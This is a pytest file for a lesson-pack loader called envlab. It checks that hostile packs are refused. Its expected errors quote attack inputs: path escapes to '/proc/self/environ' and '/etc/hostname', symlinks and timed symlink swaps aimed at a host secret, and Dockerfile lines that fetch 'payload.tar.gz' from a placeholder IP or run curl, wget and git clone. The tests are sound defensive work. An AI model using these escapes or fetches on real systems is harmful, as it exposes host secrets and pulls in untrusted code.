"""Hostile packs (tests/fixtures/hostile): what a lesson names on the host stays in its pack, and its
Dockerfiles cannot fetch or pull. Every case is refused at file:line:col, or at run time before a byte
leaves the pack; nothing here needs Docker."""

from __future__ import annotations

import os
import re
import shutil
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from envlab.engine.builds import BuildSource, lesson_assets, packages_image, with_editor
from envlab.engine.drift.run import DriftRun
from envlab.engine.events import ErrorRaised
from envlab.engine.images import context_digest, fix_need, host_image, image_needs
from envlab.engine.prepare import prepare_one
from envlab.lessons import assets, dockerfile
from envlab.lessons.assets import AssetError, AssetMissing, AssetsFolder, Budget, pack_root, read_tree
from envlab.lessons.catalog import display_path, find_lesson, load_checked
from envlab.lessons.loader import LessonFileError
from envlab.lessons.model import DriftLesson
from envlab.runtime.docker.builds import DOCKERFILE_NAME, build_limits, context_archive, named_images
from envlab.runtime.fake import FakeRuntime
from tests.helpers import FIXTURES

HOSTILE = FIXTURES / "hostile"
#: The packs of this file's cases (the static half of the hostile corpus has its own tests).
PACKS = ("assets-escape", "symlink-out", "symlink-swap", "add-url", "run-apt", "missing-from")
VENDOR = "vendor the file into the assets folder and COPY it (builds have no network)"
SYMLINK = "is a symlink: envlab does not follow symlinks in a pack (copy the file in)"
FOREIGN = "a lesson image starts from a Debian base envlab prepares (debian:<suite>-slim), an earlier stage or scratch"

EXPECTED: dict[str, list[str]] = {
    "assets-escape/root.yaml": [
        "8:9: assets: '/' is not a folder of the lesson's pack (name it relative to the lesson file)"],
    "assets-escape/proc.yaml": [
        "13:34: hosts[0].files[0].source: '/proc/self/environ' is an absolute path: name a path inside the "
        "assets folder"],
    "assets-escape/climb.yaml": ["8:9: assets: '../../..' leaves the lesson's pack"],
    "assets-escape/source-climb.yaml": [
        "13:39: hosts[0].files[0].source: '../../../../../../../../etc/hostname' leaves the lesson's assets folder"],
    "assets-escape/context.yaml": [
        "12:14: fix.build.context: '../../../../../../../..' leaves the lesson's assets folder",
        "12:14: fix.build.context: '../../../../../../../../Dockerfile' leaves the lesson's assets folder"],
    "assets-escape/dockerfile.yaml": [
        "13:17: fix.build.dockerfile: 'app/../../../../../../../../etc/hostname' leaves the lesson's assets folder"],
    "symlink-out/course/lessons/linked-file.yaml": [f"12:34: hosts[0].files[0].source: 'app/secret' {SYMLINK}"],
    "symlink-out/course/lessons/linked-folder.yaml": [
        "2:5: id: the default assets folder: '../assets/linked-folder' leads out of the lesson's pack through a "
        "symlink"],
    "symlink-out/course/lessons/linked-inside.yaml": [f"12:43: hosts[0].files[0].source: 'app/alias.py' {SYMLINK}"],
    "symlink-out/course/lessons/linked-context.yaml": [f"11:14: fix.build.context: 'app/key' {SYMLINK}"],
    "symlink-out/course/lessons/beside.yaml": [
        "8:9: assets: '../private' is outside the pack's assets folder: without a pack.yaml, the lessons in a "
        "'lessons' folder may use only the 'assets' folder beside it"],
    "add-url/add-url.yaml": [
        "10:14: fix.build.context: Dockerfile:3: ADD http://192.0.2.1/payload.tar.gz: ADD from a URL or git source "
        f"is fetched by the engine; {VENDOR}",
        "10:14: fix.build.context: Dockerfile:4: ADD https://192.0.2.1/repo.git#main: ADD from a URL or git source "
        f"is fetched by the engine; {VENDOR}",
        "10:14: fix.build.context: Dockerfile:5: ADD git@192.0.2.1:team/repo.git: ADD from a URL or git source is "
        f"fetched by the engine; {VENDOR}",
        "10:14: fix.build.context: Dockerfile:7: ADD ${SOURCE}: sources must be literal paths (a variable could "
        "name a URL)",
        "10:14: fix.build.context: Dockerfile:8: COPY --from=busybox:latest: only an earlier stage may be copied "
        "from (another image would be pulled)"],
    "add-url/add-inline.yaml": [
        "10:13: fix.build.inline: inline Dockerfile line 2: ADD http://192.0.2.1/x: ADD from a URL or git source is "
        f"fetched by the engine; {VENDOR}"],
    "run-apt/run-apt.yaml": [
        "10:14: fix.build.context: Dockerfile:2: RUN apt-get fetches packages: declare the Debian packages in "
        "build.packages (envlab installs them; builds have no network)",
        f"10:14: fix.build.context: Dockerfile:4: RUN curl: downloads during the build; {VENDOR}",
        f"10:14: fix.build.context: Dockerfile:5: RUN wget: downloads during the build; {VENDOR}",
        "10:14: fix.build.context: Dockerfile:6: RUN pip install without --no-index: vendor the wheels into the "
        "assets folder and `pip install --no-index --find-links` them",
        f"10:14: fix.build.context: Dockerfile:8: RUN git clone: {VENDOR}"],
    "missing-from/foreign.yaml": [
        f"10:14: fix.build.context: Dockerfile:1: FROM alpine:3.19: {FOREIGN}",
        "10:14: fix.build.context: Dockerfile:2: FROM takes no flags (a --platform could make the engine pull "
        "another image)",
        f"10:14: fix.build.context: Dockerfile:3: FROM ${{BASE}}: {FOREIGN}"],
    "missing-from/scratch-packages.yaml": [
        "12:15: fix.build.packages: packages are installed on the Debian base a FROM names, and this Dockerfile "
        "names none"],
}


@pytest.mark.parametrize("case", sorted(EXPECTED))
def test_each_hostile_lesson_is_refused_at_file_line_column(case: str) -> None:
    path = HOSTILE / case
    started = time.monotonic()
    with pytest.raises(LessonFileError) as caught:
        load_checked(path)
    assert [str(p) for p in caught.value.problems] == [f"{display_path(path)}:{line}" for line in EXPECTED[case]]
    assert time.monotonic() - started < 2


def test_every_hostile_lesson_has_an_expectation() -> None:
    valid = {"symlink-swap/swap.yaml", "missing-from/absent.yaml"}  # refused later: at run time, on the engine
    found = {p.relative_to(HOSTILE).as_posix() for pack in PACKS for p in (HOSTILE / pack).rglob("*.yaml")
             if p.name != "pack.yaml"}
    assert found == set(EXPECTED) | valid
    for case in valid:
        load_checked(HOSTILE / case)


# the pack root --------------------------------------------------------------------------------------
def test_the_pack_root_is_pack_yaml_else_the_folder_else_the_parent_of_lessons(tmp_path: Path) -> None:
    (tmp_path / "a" / "lessons").mkdir(parents=True)
    (tmp_path / "b" / "course" / "lessons").mkdir(parents=True)
    (tmp_path / "b" / "course" / "pack.yaml").write_text("name: b\n", encoding="utf-8")
    (tmp_path / "c" / "top").mkdir(parents=True)
    (tmp_path / "c" / "top" / "pack.yaml").write_text("name: c\n", encoding="utf-8")
    real = tmp_path.resolve()
    assert pack_root(tmp_path / "a" / "lessons" / "x.yaml") == (real / "a", True)
    assert pack_root(tmp_path / "a" / "x.yaml") == (real / "a", False)
    assert pack_root(tmp_path / "b" / "course" / "lessons" / "x.yaml") == (real / "b" / "course", False)
    assert pack_root(tmp_path / "c" / "top" / "x.yaml") == (real / "c" / "top", False)


def test_the_builtin_layout_finds_its_assets_beside_the_lessons_folder() -> None:
    loaded = find_lesson("os-skew")
    folder = lesson_assets(loaded)
    assert folder.parts == ("assets", "os-skew") and folder.pack == loaded.path.resolve().parent.parent


# the walker ----------------------------------------------------------------------------------------
def folder_of(tmp_path: Path) -> AssetsFolder:
    (tmp_path / "assets").mkdir(exist_ok=True)
    return AssetsFolder(tmp_path.resolve(), ("assets",))


def test_a_sparse_huge_file_is_refused_without_being_read(tmp_path: Path) -> None:
    folder = folder_of(tmp_path)
    with open(tmp_path / "assets" / "huge.bin", "wb") as handle:
        handle.truncate(100 * 2**30)  # 100 GiB that take no disk
    for contents in (False, True):
        started = time.monotonic()
        with pytest.raises(AssetError, match=re.escape("'huge.bin': a lesson's assets may hold at most 64 MiB")):
            read_tree(folder, "huge.bin", contents=contents)
        assert time.monotonic() - started < 1


def test_the_size_bound_is_for_the_whole_lesson_and_a_file_counts_once(tmp_path: Path) -> None:
    folder = folder_of(tmp_path)
    for name in ("a.bin", "b.bin"):
        with open(tmp_path / "assets" / name, "wb") as handle:
            handle.truncate(40 * 2**20)
    budget = Budget()
    read_tree(folder, "a.bin", contents=False, budget=budget)
    read_tree(folder, "a.bin", contents=False, budget=budget)  # the same file again: not counted twice
    with pytest.raises(AssetError, match=re.escape("'b.bin': a lesson's assets may hold at most 64 MiB")):
        read_tree(folder, "b.bin", contents=False, budget=budget)


def test_too_many_files_are_refused_while_listing(tmp_path: Path) -> None:
    folder = folder_of(tmp_path)
    many = tmp_path / "assets" / "many"
    many.mkdir()
    for index in range(assets.MAX_ENTRIES + 1):
        (many / f"{index}.txt").touch()
    with pytest.raises(AssetError, match="'many': a lesson may name at most 5,000 files and folders"):
        read_tree(folder, "many", contents=False)


def test_folders_nested_too_deep_are_refused(tmp_path: Path) -> None:
    folder = folder_of(tmp_path)
    deep = tmp_path / "assets" / "deep"
    for _ in range(assets.MAX_DEPTH + 2):
        deep = deep / "d"
    deep.mkdir(parents=True)
    with pytest.raises(AssetError, match="is nested more than 32 folders deep"):
        read_tree(folder, "deep")


def in_thread(call: Callable[[], Any]) -> BaseException | None:
    """Run ``call`` in a thread and return what it raised; fail (instead of hanging) if it blocks."""
    raised: list[BaseException] = []

    def run() -> None:
        try:
            call()
        except BaseException as exc:  # handed back to the test, whatever it is
            raised.append(exc)

    worker = threading.Thread(target=run, daemon=True)
    worker.start()
    worker.join(timeout=5)
    assert not worker.is_alive(), "the walker blocked"
    return raised[0] if raised else None


def test_a_fifo_is_refused_without_blocking(tmp_path: Path) -> None:
    folder = folder_of(tmp_path)
    os.mkfifo(tmp_path / "assets" / "pipe")
    for relative in ("pipe", "."):
        raised = in_thread(lambda relative=relative: read_tree(folder, relative))  # type: ignore[misc]
        assert isinstance(raised, AssetError) and "'pipe' is neither a regular file nor a folder" in raised.message


def test_a_missing_name_and_a_nul_byte_are_clear_errors(tmp_path: Path) -> None:
    folder = folder_of(tmp_path)
    with pytest.raises(AssetMissing, match=re.escape("'nope' not found")):
        read_tree(folder, "nope/app.py")
    with pytest.raises(AssetError, match="holds a NUL byte"):
        read_tree(folder, "app\0.py")


# what is copied is what was checked ----------------------------------------------------------------
@pytest.fixture
def swap_pack(tmp_path: Path) -> tuple[Path, Path]:
    """A copy of the valid swap pack, and a host file outside it that must never be read."""
    pack = tmp_path / "pack"
    shutil.copytree(HOSTILE / "symlink-swap", pack)
    secret = tmp_path / "secret.txt"
    secret.write_text("the operator's secret\n", encoding="utf-8")
    return pack, secret


def test_a_symlink_swapped_in_after_validation_is_refused_at_the_copy(swap_pack: tuple[Path, Path]) -> None:
    pack, secret = swap_pack
    loaded = load_checked(pack / "swap.yaml")
    fake = FakeRuntime(images={n.tag for n in image_needs([loaded])})
    config = pack / "assets" / "swap" / "app" / "config.txt"
    config.unlink()
    config.symlink_to(secret)  # after validation, before envlab copies anything
    events = list(DriftRun(loaded, fake).events())
    errors = {e.setup: e.message for e in events if isinstance(e, ErrorRaised)}
    assert errors == {"box": f"'app/config.txt' {SYMLINK}", "container": f"'app/config.txt' {SYMLINK}"}
    copied = [data for box in fake.containers.values() for data in box.files.values()]
    assert all(b"secret" not in data for data in copied)
    assert fake.builds == {}, "the fix was not built from the swapped context"


def swap_at_open(monkeypatch: pytest.MonkeyPatch, pack: Path, swap: Callable[[Path], None]) -> None:
    """Make the walker's first open of ``app/config.txt`` find ``swap(path)`` done just before it: after
    the walker looked at a regular file, before it opens it (the race a stranger's pack would try to win)."""
    config = pack / "assets" / "swap" / "app" / "config.txt"
    real_open = os.open

    def swapping_open(path: Any, flags: int, *args: Any, **kwargs: Any) -> int:
        if path == "config.txt" and config.is_file() and not config.is_symlink():
            config.unlink()
            swap(config)
        return real_open(path, flags, *args, **kwargs)

    monkeypatch.setattr(assets.os, "open", swapping_open)


def test_a_swap_between_the_walkers_look_and_its_open_is_refused(swap_pack: tuple[Path, Path],
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    pack, secret = swap_pack
    folder = lesson_assets(load_checked(pack / "swap.yaml"))
    swap_at_open(monkeypatch, pack, lambda config: config.symlink_to(secret))
    with pytest.raises(AssetError, match=re.escape(f"'app/config.txt' {SYMLINK}")):
        read_tree(folder, "app")


def test_a_fifo_swapped_in_between_look_and_open_neither_blocks_nor_is_read(swap_pack: tuple[Path, Path],
                                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    pack, _secret = swap_pack
    folder = lesson_assets(load_checked(pack / "swap.yaml"))
    swap_at_open(monkeypatch, pack, os.mkfifo)
    raised = in_thread(lambda: read_tree(folder, "app"))
    assert isinstance(raised, AssetError) and "neither a regular file nor a folder" in raised.message


def test_a_dockerfile_changed_after_validation_is_checked_again(swap_pack: tuple[Path, Path]) -> None:
    pack, _secret = swap_pack
    loaded = load_checked(pack / "swap.yaml")
    (pack / "assets" / "swap" / "Dockerfile").write_text("FROM debian:bookworm-slim\nADD http://192.0.2.1/x /x\n",
                                                         encoding="utf-8")
    with pytest.raises(AssetError, match=re.escape("Dockerfile:2: ADD http://192.0.2.1/x: ADD from a URL")):
        context_digest(fix_need(loaded))


# build.packages and the FROM rewrite -----------------------------------------------------------------
def test_a_lesson_image_starts_from_the_very_image_its_hosts_run_from() -> None:
    loaded = find_lesson("image-vs-container")
    lesson = loaded.lesson
    assert isinstance(lesson, DriftLesson)
    shared = host_image(lesson.hosts[0])
    need = fix_need(loaded)
    assert need.source is not None and need.source.build.packages == ["python3"]
    inputs = need.source.read()
    assert f"\nFROM {shared}\n" in inputs.dockerfile and "debian:bookworm-slim\n" not in inputs.dockerfile
    assert shared == packages_image("debian:bookworm-slim", with_editor(["python3"]))  # the editor every host has
    tags = {(n.tag, n.kind) for n in image_needs([loaded])}
    assert (shared, "host") in tags and ("debian:bookworm-slim", "base") in tags


def test_the_rewrite_touches_only_from_lines_of_a_validated_base() -> None:
    text = ("FROM debian:bookworm-slim AS build\nRUN echo debian:bookworm-slim\nFROM build\n"
            "FROM \\\n  debian:bookworm-slim\nCOPY --from=build /a /a\n")
    rewritten = dockerfile.rewrite_from(text, {"debian:bookworm-slim": "envlab-host:0123456789ab"})
    assert rewritten.splitlines() == [
        "FROM envlab-host:0123456789ab AS build", "RUN echo debian:bookworm-slim", "FROM build",
        "FROM envlab-host:0123456789ab", "", "COPY --from=build /a /a"]
    assert dockerfile.problems(rewritten) == [(1, f"FROM envlab-host:0123456789ab: {FOREIGN}"),
                                              (4, f"FROM envlab-host:0123456789ab: {FOREIGN}")]


def test_lesson_builds_have_no_network_and_envlabs_package_step_has(tmp_path: Path) -> None:
    loaded = find_lesson("os-skew")
    needs = image_needs([loaded])
    fake = FakeRuntime(images={n.tag for n in needs if n.kind == "base"})
    for kind in ("host", "fix"):
        for need in (n for n in needs if n.kind == kind):
            assert prepare_one(fake, need, lambda *_: None).action == "built"
    assert {tag: network for tag, (_, _, network) in fake.builds.items()} == {
        n.tag: n.kind == "host" for n in needs if n.kind in ("host", "fix")}
    fix = fix_need(loaded)
    context, text, _ = fake.builds[fix.tag]
    assert fix.source is not None
    assert ("app/inventory.py", (REPO_ASSETS / "os-skew" / "app" / "inventory.py").read_bytes(), 0o644) in context
    assert text == fix.source.read().dockerfile


def test_a_missing_derived_image_fails_before_any_build() -> None:
    loaded = find_lesson("os-skew")
    need = fix_need(loaded)
    assert need.source is not None
    fake = FakeRuntime(images={"debian:bookworm-slim"})
    inputs = need.source.read()
    with pytest.raises(Exception, match="which is not on this engine") as caught:
        fake.build_image(context=inputs.context, dockerfile=inputs.dockerfile, tag=need.tag, labels={},
                         on_line=lambda _: None)
    assert "envlab images prepare" in getattr(caught.value, "hint", "") and fake.builds == {}


def test_every_builtin_build_declares_its_packages_and_fetches_nothing() -> None:
    from envlab.lessons.catalog import load_catalog

    catalog = load_catalog()
    assert catalog.problems == []
    for loaded in catalog.lessons:
        for _loc, build in dockerfile.builds_of(loaded.lesson):
            text = BuildSource(lesson_assets(loaded), build).dockerfile_text()
            assert "apt-get" not in text and build.packages, loaded.lesson.id


# the Docker runtime's own checks (pure functions: no engine) -------------------------------------------
def test_the_runtime_finds_every_image_a_build_would_pull() -> None:
    text = ("FROM debian:bookworm-slim AS one\nFROM one\nFROM scratch\nFROM --platform=x \\\n alpine:3\n"
            "COPY --from=busybox /bin/sh /sh\nCOPY --from=one /a /a\nCOPY --from=0 /b /b\n"
            "# FROM commented:out\nONBUILD COPY --from=nginx /x /x\n")
    assert named_images(text) == ["debian:bookworm-slim", "alpine:3", "busybox", "nginx"]


def test_build_limits_leave_a_cpu_free_and_bound_memory_without_swap() -> None:
    assert build_limits(2) == {"memory": 2**30, "memswap": 2**30, "cpushares": 512, "cpusetcpus": "0"}
    assert build_limits(8)["cpusetcpus"] == "0-6" and build_limits(1)["cpusetcpus"] == "0"


def test_the_context_archive_holds_what_it_was_given_and_envlabs_dockerfile_only() -> None:
    import tarfile

    archive = context_archive([("app/a.py", b"print(1)\n", 0o4755), (DOCKERFILE_NAME, b"FROM evil\n", 0o644)],
                              "FROM debian:bookworm-slim\n")
    with tarfile.open(fileobj=archive) as tar:
        members = {m.name: m for m in tar.getmembers()}
        assert sorted(members) == [DOCKERFILE_NAME, "app/a.py"]
        assert members["app/a.py"].mode == 0o755, "no setuid bit from a stranger's file"
        handle = tar.extractfile(members[DOCKERFILE_NAME])
        assert handle is not None and handle.read() == b"FROM debian:bookworm-slim\n"
    with pytest.raises(Exception, match="leaves the context"):
        context_archive([("../../etc/x", b"", 0o644)], "FROM scratch\n")


REPO_ASSETS = FIXTURES.parent.parent / "assets"
